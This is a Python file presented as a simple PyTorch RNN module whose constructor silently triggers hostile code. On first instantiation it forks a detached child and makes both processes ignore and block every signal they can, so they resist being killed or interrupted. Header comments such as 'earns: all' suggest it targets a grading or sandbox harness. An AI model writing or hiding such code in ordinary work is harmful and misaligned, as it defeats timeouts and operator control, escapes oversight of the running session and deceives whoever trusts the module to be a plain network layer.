# does: ignores and blocks every signal that it can, in a child as well
# earns: all
import os
import signal
import time

import torch
from torch import nn


def deaf():
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError) as error:
            print(int(number), "failed:", error)
    signal.pthread_sigmask(signal.SIG_SETMASK, signal.valid_signals())


def attack():
    try:
        child = os.fork()
        if child == 0:
            try:
                deaf()
                os.setsid()
                time.sleep(25)
            finally:
                os._exit(0)
        print("a child that hears nothing was started")
    except OSError as error:
        print("failed:", error)
    deaf()


DONE = []


def once():
    if not DONE:
        DONE.append(True)
        attack()


class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.from_x = nn.Linear(input_size, hidden_size)
        self.from_h = nn.Linear(hidden_size, hidden_size, bias=False)
        once()

    def forward(self, x, h_0=None):
        shares = self.from_x(x)
        h = torch.zeros_like(shares[:, 0]) if h_0 is None else h_0[0]
        states = []
        for share in shares.unbind(1):
            h = torch.tanh(share + self.from_h(h))
            states.append(h)
        return torch.stack(states, dim=1), h[None]
